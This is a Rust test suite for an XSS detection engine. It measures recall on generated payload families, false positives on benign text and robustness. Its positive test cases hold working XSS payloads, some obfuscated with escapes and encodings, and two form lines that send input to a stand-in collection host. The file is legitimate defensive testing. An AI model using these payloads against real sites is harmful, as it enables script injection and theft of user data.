//! XSS checks: recall on the generated families (per mutation), hand-written hard negatives,
//! and an `#[ignore]` false-positive scan over the pool's real benign files.
//!
//! Each value is judged as the engine sees it: the plain text and a decoded view (percent
//! layers with `+` as space, entities, JS escapes undone; comments removed; whitespace
//! collapsed), emulated here in a few lines.

use evasion::place::json_string;
use std::collections::BTreeMap;
use syntax::{checks, Finding, Input, Place};

const N: usize = 2000;

fn views(text: &str) -> Vec<String> {
    let mut cur = text.to_string();
    for _ in 0..4 {
        let next = escapes(&entities(&percent(&cur)));
        if next == cur {
            break;
        }
        cur = next;
    }
    vec![text.to_string(), collapse(&cur)]
}

fn percent(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let h = |c: u8| (c as char).to_digit(16);
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(x), Some(y)) = (h(b[i + 1]), h(b[i + 2])) {
                out.push((x * 16 + y) as u8);
                i += 3;
                continue;
            }
        }
        out.push(if b[i] == b'+' { b' ' } else { b[i] });
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn entities(s: &str) -> String {
    syntax::xss_html::entities(s)
}

fn escapes(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = String::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 1 < b.len() {
            let hexnum = |from: usize, n: usize| -> Option<u32> {
                let d = b.get(from..from + n)?;
                d.iter().try_fold(0u32, |a, &c| Some(a * 16 + (c as char).to_digit(16)?))
            };
            let (v, len) = match b[i + 1] {
                b'x' => (hexnum(i + 2, 2), 4),
                b'u' if b.get(i + 2) == Some(&b'{') => {
                    let end = b[i..].iter().position(|&c| c == b'}').map(|p| p + i);
                    match end {
                        Some(e) if e - i < 12 => (u32::from_str_radix(&s[i + 3..e], 16).ok(), e + 1 - i),
                        _ => (None, 0),
                    }
                }
                b'u' => (hexnum(i + 2, 4), 6),
                _ => (None, 0),
            };
            if let Some(ch) = v.and_then(char::from_u32) {
                out.push(ch);
                i += len;
                continue;
            }
        }
        let ch = s[i..].chars().next().unwrap_or('\u{fffd}');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

fn collapse(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(p) = rest.find("/*") {
        out.push_str(&rest[..p]);
        rest = rest[p..].find("*/").map_or("", |e| &rest[p + e + 2..]);
    }
    out.push_str(rest);
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The best XSS finding over both views at `level`.
fn xss(text: &str, place: Place, level: u8) -> Option<Finding> {
    views(text).iter().find_map(|v| {
        let mut input = Input::new(v);
        input.place = place;
        input.sensitivity = level;
        input.decoded = v != text;
        checks().iter().filter(|c| c.detector() == "xss").find_map(|c| c.inspect(&input))
    })
}

/// Grammar forms that `scoring/rules/xss.toml` decides, not these code checks (legacy and
/// encoding-level shapes: a rule's regex is the right tool for them). This test measures the
/// code checks alone; `scoring/tests/evasion.rs` holds every form to 95 % through the whole
/// engine, rules included.
const RULE_FORMS: &[&str] = &[
    "close-chain",
    "close-probe",
    "css-binding",
    "handler-junk-name",
    "high-bit-ascii",
    "namespaced-script",
    "nul-in-name",
    "sandbox-escape",
    "split-strings",
    "unquoted-breakout",
    "utf-7",
    "reference-run",
    "legacy-scheme",
    "eval-call",
    "with-scope",
    "spelled-literals",
];

fn recall(family: &str) -> f64 {
    let fam = evasion::family(family).expect("family registered");
    let sampled = evasion::sample(fam, 12, N);
    let variants: Vec<_> = sampled.iter().filter(|v| !v.mutation.split('+').any(|m| RULE_FORMS.contains(&m))).cloned().collect();
    let n = variants.len();
    assert!(n >= N / 2, "{family}: most variants must be the code checks' to decide ({n} of {N})");
    let mut per: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut hits = 0;
    let mut missed = Vec::new();
    let distinct: std::collections::HashSet<&str> = sampled.iter().map(|v| v.payload.as_str()).collect();
    for v in &variants {
        let hit = xss(&v.payload, Place::QueryValue, 1).is_some();
        hits += hit as usize;
        if !hit && missed.len() < 15 {
            missed.push(format!("{} | {}", v.mutation, v.payload.chars().take(200).collect::<String>()));
        }
        for m in v.mutation.split('+') {
            let e = per.entry(m.to_string()).or_default();
            e.0 += hit as usize;
            e.1 += 1;
        }
    }
    let rate = hits as f64 / n as f64;
    // Without the engine's decoded view (only the checks' own percent/entity/escape handling).
    let plain_only = variants
        .iter()
        .filter(|v| {
            let mut input = Input::new(&v.payload);
            input.place = Place::QueryValue;
            checks().iter().filter(|c| c.detector() == "xss").any(|c| c.inspect(&input).is_some())
        })
        .count();
    println!("{family}: plain view only {:.2}%", plain_only as f64 * 100.0 / n as f64);
    println!("{family}: code-check recall {:.2}% on {n} of {N} variants (rule forms left out; {} distinct)", rate * 100.0, distinct.len());
    for (m, (h, n)) in &per {
        println!("  {m:<22} {:>6.2}%  ({h}/{n})", *h as f64 * 100.0 / *n as f64);
    }
    for m in &missed {
        println!("  missed: {m}");
    }
    assert!(distinct.len() >= N * 9 / 10, "{family}: too few distinct variants");
    rate
}

#[test]
fn js_expression_family_recall() {
    assert!(recall("xss-js-expression") >= 0.95);
}

#[test]
fn html_family_recall() {
    assert!(recall("xss-html") >= 0.95);
}

/// Realistic values that look a little like XSS and must pass at level 1.
const HARD_NEGATIVES: &[&str] = &[
    "alert(1) meaning",
    "how do I use alert() in javascript",
    "1<script",
    "javascript:void(0)",
    "https://t.example.com/beacon?href=javascript:void(0)&ev=click",
    "JavaScript:void(0);",
    "f(x)=2x+1",
    "color: rgb(1, 2, 3); width: calc(100% - 2px)",
    "{\"name\":\"alert(1)\",\"id\":3}",
    "<b>bold</b> and <i>it</i>",
    "<a href=\"https://en.wikipedia.org/wiki/Foo\">Foo</a>",
    "<img src=\"x.png\" alt=\"a picture\">",
    "Can you explain what eval() does in Python?",
    "print(\"hello world\")",
    "console.log(x)",
    "const x = document.getElementById('a'); x.addEventListener('click', () => go());",
    "Use window.open(url) to open a popup (it may be blocked)",
    "What's the difference between setTimeout(fn, 0) and setImmediate?",
    "I can't confirm (yet) whether it works",
    "<div class=\"note\">Note: see (1) above</div>",
    "=SUM(A1:A3)",
    "search: script tag onload event",
    "**Bold** and `code` in markdown, [link](https://x.org)",
    "```js\nfunction f(a) {\n  return a + 1;\n}\n```",
    "if (a < b && c > d) { return; }",
    "x = y.map(v => v * 2).filter(Boolean)",
    "SELECT name FROM users WHERE id IN (1, 2)",
    "Price (incl. VAT): 12.50 EUR",
    "The function f(x) = sin(x) + cos(x) is periodic",
    "<p>Use the <code>onclick</code> attribute carefully.</p>",
    "<form action=\"/search\" method=\"get\"><input name=q></form>",
    "Why does my alert box not show?",
    "top 10 (ten) things to do",
    "self-care tips (for developers)",
    "window['localStorage']",
    "document.title",
    "O'Reilly (2nd edition)",
    "she said \"hi\" (twice)",
    "/api/v1/items?sort=name&order=asc",
    "a[href^='http'] { color: red; }",
    "@media (max-width: 600px) { .x { display: none } }",
    "<ul><li>one</li><li>two</li></ul>",
    "<table><tr><td>1</td></tr></table>",
    "Prompt engineering (with examples)",
    "confirm password",
    "eval metrics for model (accuracy, f1)",
    "<input type=\"text\" name=\"q\" value=\"\">",
    "<link rel=\"stylesheet\" href=\"/main.css\">",
    "mailto:user@example.com?subject=Hi (test)",
    "tel:+1-555-0100",
    "data:image/png;base64,iVBORw0KGgo=",
    "2 < 3 and 5 > 4",
    "fetch the data (async)",
    "import pandas as pd",
    "fetch('/api/users').then(r => r.json())",
    "window.location.href = '/home'",
    "img.src = 'photo.jpg'",
    "location: Berlin (Germany)",
    "How do I read document.cookie in JavaScript (for a login form)?",
    "Use `eval` sparingly (it is slow)",
    "<a href=\"javascript:void(0)\" class=\"btn\">Menu</a>",
];

#[test]
fn hard_negatives_pass_at_level_1() {
    let mut fired = Vec::new();
    for text in HARD_NEGATIVES {
        if let Some(f) = xss(text, Place::QueryValue, 1) {
            fired.push(format!("{} <- {text}", f.reason));
        }
    }
    assert!(fired.is_empty(), "fired at level 1:\n{}", fired.join("\n"));
}

#[test]
fn hand_written_positives() {
    for text in [
        "top['ale'+'rt'](1)",
        "self[\"\\x61lert\"](1)",
        "[].constructor.constructor('alert(1)')()",
        "eval(atob('YWxlcnQoMSk='))",
        "alert`1`",
        "javascript:alert(1)",
        "';alert(1)//",
        "\"-alert(1)-\"",
        "<svg/onload=alert(1)>",
        "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
        "<iframe src=javascript:alert(1)>",
        "<script>alert(1)</script>",
        "\" onmouseover=\"alert(1)",
        "<form name=\"x\" action=\"https://collect.example/steal\" method=\"post\">",
        "<button formaction=//collect.example/p>Sign in</button>",
    ] {
        assert!(xss(text, Place::QueryValue, 1).is_some(), "missed {text}");
    }
}

/// Markup reflected through a JavaScript string (`innerHTML = '<value>'`): the string's escapes
/// are undone before the HTML parser sees it — a character escaped for nothing stands for
/// itself, and legacy octal takes one to three digits.
#[test]
fn markup_behind_javascript_string_escapes() {
    for text in [
        r"<img src=x on\error=\alert(1)>",
        r"\<img src=x \onerror=alert(1)\>",
        r"<svg on\load=alert(1)>",
        r"\74svg onload=alert(1)\76",
        r"\74img src=x onerror=alert(1)>",
        r"\x3cimg src=x on\error=alert(1)\x3e",
        r"\u{3c}svg o\u{6e}load=alert(1)\u{3e}",
        r"%5C74svg%20on%5Cload%3Dalert(1)%5C76",
        // Not one `<`, `=` or `%` left in the value.
        r"\74/text\area\76\74scr\i\pt src\75data:,alert`1`>\74/scri\pt\>",
        r"\74svg on\load\75alert(1)\76",
    ] {
        assert!(xss(text, Place::QueryValue, 1).is_some(), "missed {text}");
    }
    // Escapes that make the text something else (`\n` is a line break, `\v` a vertical tab),
    // and paths, stay clean.
    for text in [r"<img src=x o\nerror=alert(1)>", r"C:\Users\Public\onerror=1", r"top['\a\l\e\r\t'](1)"] {
        assert!(xss(text, Place::QueryValue, 1).is_none(), "fired on {text}");
    }
}

// ---- FP scan over the pool's real benign files ----

/// Every JSON string literal in `line` (keys and values), unescaped.
fn json_strings(line: &str) -> Vec<String> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'"' {
            i += 1;
            continue;
        }
        let mut s = String::new();
        i += 1;
        while i < b.len() && b[i] != b'"' {
            if b[i] == b'\\' && i + 1 < b.len() {
                match b[i + 1] {
                    b'n' => s.push('\n'),
                    b't' => s.push('\t'),
                    b'r' => s.push('\r'),
                    b'u' if i + 6 <= b.len() => {
                        let v = u32::from_str_radix(&line[i + 2..i + 6], 16).unwrap_or(0xfffd);
                        s.push(char::from_u32(v).unwrap_or('\u{fffd}'));
                        i += 4;
                    }
                    c => s.push(c as char),
                }
                i += 2;
            } else {
                let ch = line[i..].chars().next().unwrap_or(' ');
                s.push(ch);
                i += ch.len_utf8();
            }
        }
        i += 1;
        out.push(s);
    }
    out
}

/// The value after `"key": ` in a JSONL row (the string following the key literal).
fn field(line: &str, key: &str) -> Option<String> {
    let strings = json_strings(line);
    strings.iter().position(|s| s == key).and_then(|p| strings.get(p + 1).cloned())
}

fn query_values(url: &str) -> Vec<String> {
    let q = url.split_once('?').map_or("", |(_, q)| q);
    q.split('&').filter_map(|kv| kv.split_once('=').map(|(_, v)| percent(v))).collect()
}

#[test]
#[ignore]
fn fp_scan_real_benign() {
    let data = std::env::var("RAMPART_DATA").unwrap_or("/work/shared/datasets".into());
    let read = |f: &str| std::fs::read_to_string(format!("{data}/{f}")).unwrap_or_default();
    let mut report = Vec::new();
    let mut scan = |name: &str, texts: Vec<(String, Place)>| {
        let mut hits: BTreeMap<&str, usize> = BTreeMap::new();
        let mut hits2: BTreeMap<&str, usize> = BTreeMap::new();
        let mut shown = 0;
        for (t, place) in &texts {
            if let Some(f) = xss(t, *place, 2) {
                *hits2.entry(f.reason).or_default() += 1;
            }
            if let Some(f) = xss(t, *place, 1) {
                *hits.entry(f.reason).or_default() += 1;
                if shown < 8 {
                    shown += 1;
                    let cut: String = t.chars().take(160).collect();
                    println!("  [{name}] {} | {:?}", f.reason, cut);
                }
            }
        }
        report.push(format!(
            "{name}: {} texts, level 1: {} hits {:?}; level 2: {} hits {:?}",
            texts.len(),
            hits.values().sum::<usize>(),
            hits,
            hits2.values().sum::<usize>(),
            hits2
        ));
    };
    let texts = |f: &str, label: Option<&str>| -> Vec<String> {
        read(f)
            .lines()
            .filter(|l| label.is_none_or(|lb| field(l, "label").as_deref() == Some(lb)))
            .filter_map(|l| field(l, "text"))
            .collect()
    };
    scan("sharegpt_user_messages", texts("sharegpt_user_messages.jsonl", None).into_iter().map(|t| (t, Place::BodyValue)).collect());
    scan("har_fixture_parts", texts("har_fixture_parts.jsonl", None).into_iter().map(|t| (t, Place::BodyValue)).collect());
    scan("kaggle_xss benign", texts("kaggle_xss_syedsaqlain.jsonl", Some("benign")).into_iter().map(|t| (t, Place::BodyValue)).collect());
    let csic: Vec<(String, Place)> = texts("csic2010_lines.jsonl", None)
        .into_iter()
        .flat_map(|t| {
            let first = t.lines().next().unwrap_or("").to_string();
            let body = t.lines().last().unwrap_or("").to_string();
            let mut v: Vec<(String, Place)> = query_values(&first).into_iter().map(|q| (q, Place::QueryValue)).collect();
            v.extend(query_values(&format!("?{body}")).into_iter().map(|q| (q, Place::BodyValue)));
            v
        })
        .collect();
    scan("csic2010_lines values", csic);
    for f in ["requests/har_fixture_requests.jsonl", "requests/node_soap_requests.jsonl"] {
        let mut v = Vec::new();
        for line in read(f).lines() {
            if let Some(path) = field(line, "path") {
                v.extend(query_values(&path).into_iter().map(|q| (q, Place::QueryValue)));
            }
            if let Some(body) = field(line, "body") {
                v.extend(json_strings(&body).into_iter().map(|s| (s, Place::BodyValue)));
                v.extend(query_values(&format!("?{body}")).into_iter().map(|s| (s, Place::BodyValue)));
                v.push((body, Place::BodyRaw));
            }
        }
        scan(f, v);
    }
    for (f, place) in [
        ("fwaf_goodqueries_subset.jsonl", Place::QueryValue),
        ("uap_core_user_agents.jsonl", Place::Header),
        ("digitalocean_api_examples.jsonl", Place::BodyRaw),
        ("graphql_spec_examples.jsonl", Place::BodyRaw),
        ("otlp_json_examples.jsonl", Place::BodyRaw),
    ] {
        let mut v: Vec<(String, Place)> = Vec::new();
        for t in texts(f, None) {
            v.extend(query_values(&t).into_iter().map(|q| (q, Place::QueryValue)));
            v.extend(json_strings(&t).into_iter().map(|s| (s, Place::BodyValue)));
            v.push((t, place));
        }
        scan(f, v);
    }
    for r in &report {
        println!("{r}");
    }
}

/// Recall of these checks alone on the pool's XSS rows, per source; the rows they miss are
/// written to `$XSS_MISSED_DIR/<source>.jsonl` so the rule engine's eval can be run on them
/// (`rampart eval --data $XSS_MISSED_DIR`) to measure rules ∪ checks.
#[test]
#[ignore]
fn pool_recall_of_checks() {
    let data = std::env::var("RAMPART_DATA").unwrap_or("/work/shared/datasets".into());
    let out_dir = std::env::var("XSS_MISSED_DIR").unwrap_or("/tmp/xss/pool".into());
    let _ = std::fs::create_dir_all(&out_dir);
    for src in ["payloadbox", "payloadsallthethings", "fuzzdb", "kaggle_xss_syedsaqlain", "awesomexss", "awesome_waf_bypasses"] {
        let text = std::fs::read_to_string(format!("{data}/{src}.jsonl")).unwrap_or_default();
        let (mut n, mut hit) = (0, 0);
        let mut missed = String::new();
        for line in text.lines() {
            if field(line, "label").as_deref() != Some("xss") {
                continue;
            }
            let Some(t) = field(line, "text") else {
                continue;
            };
            n += 1;
            if xss(&t, Place::QueryValue, 1).is_some() {
                hit += 1;
            } else {
                missed.push_str(&format!("{{\"text\": {}, \"label\": \"xss\", \"source\": \"{src}\"}}\n", json_string(&t)));
            }
        }
        let _ = std::fs::write(format!("{out_dir}/{src}.jsonl"), missed);
        println!("{src:<24} checks alone: {hit}/{n} = {:.2}%", hit as f64 * 100.0 / n.max(1) as f64);
    }
}

/// Never panics, on truncated and corrupted variants and on pathological shapes.
#[test]
fn never_panics() {
    let mut texts: Vec<String> = vec![
        "(".repeat(5000),
        "[".repeat(5000) + &"]".repeat(5000) + "(1)",
        "a[".to_string() + &"'x'+".repeat(2000) + "'y'](1)".repeat(200).as_str(),
        "eval(".repeat(2000),
        "location=".repeat(3000),
        "`${".repeat(1000),
        "\\u{".repeat(1000),
        "<a href=".repeat(2000),
        "&#x".repeat(2000),
        "<script>".repeat(1000),
        "\"".repeat(3000) + "onx=" + &"(".repeat(1000),
        "x'+alert(1)".repeat(1000),
    ];
    for fam in ["xss-js-expression", "xss-html"] {
        for v in evasion::sample(evasion::family(fam).unwrap(), 99, 200) {
            let p = v.payload;
            let step = (p.chars().count() / 16).max(1);
            for (i, _) in p.char_indices().step_by(step) {
                texts.push(p[..i].to_string());
                texts.push(p[i..].to_string());
            }
        }
    }
    for t in &texts {
        for level in [1, 4] {
            let _ = xss(t, Place::BodyValue, level);
        }
    }
    // Linear time: the pathological shapes above each run well under a second in debug.
    let start = std::time::Instant::now();
    let big = "top['a'+'b'](1)(1)(1)".repeat(3000);
    let _ = xss(&big, Place::BodyValue, 4);
    assert!(start.elapsed().as_secs_f64() < 2.0, "slow: {:?}", start.elapsed());
}

/// The cost on a benign 1 KB JSON body (the engine's budget is 10 µs for all checks).
#[test]
#[ignore]
fn benign_json_cost() {
    let body = format!(
        "{{\"user\":{{\"id\":123,\"name\":\"Jane O'Neil\",\"email\":\"jane@example.com\",\"bio\":\"{}\"}},\"tags\":[\"a\",\"b\"],\"url\":\"https://example.com/p?x=1&y=2\"}}",
        "Loves hiking, photography and long walks on the beach. ".repeat(14)
    );
    let prose = format!(
        "{{\"comment\":\"{}\",\"page\":\"/docs/intro?lang=en\"}}",
        "I tried the new version (2.1) and it works; the docs (see section 3) could show more examples. ".repeat(10)
    );
    for body in [&body, &prose] {
        let input = Input::new(body);
        let n = 20_000;
        let start = std::time::Instant::now();
        for _ in 0..n {
            for c in checks() {
                std::hint::black_box(c.inspect(&input));
            }
        }
        println!("{} bytes: {:.2} µs per body, both XSS checks", body.len(), start.elapsed().as_secs_f64() * 1e6 / n as f64);
        for c in checks() {
            let start = std::time::Instant::now();
            for _ in 0..n {
                std::hint::black_box(c.inspect(&input));
            }
            println!("  one check: {:.2} µs", start.elapsed().as_secs_f64() * 1e6 / n as f64);
        }
    }
}
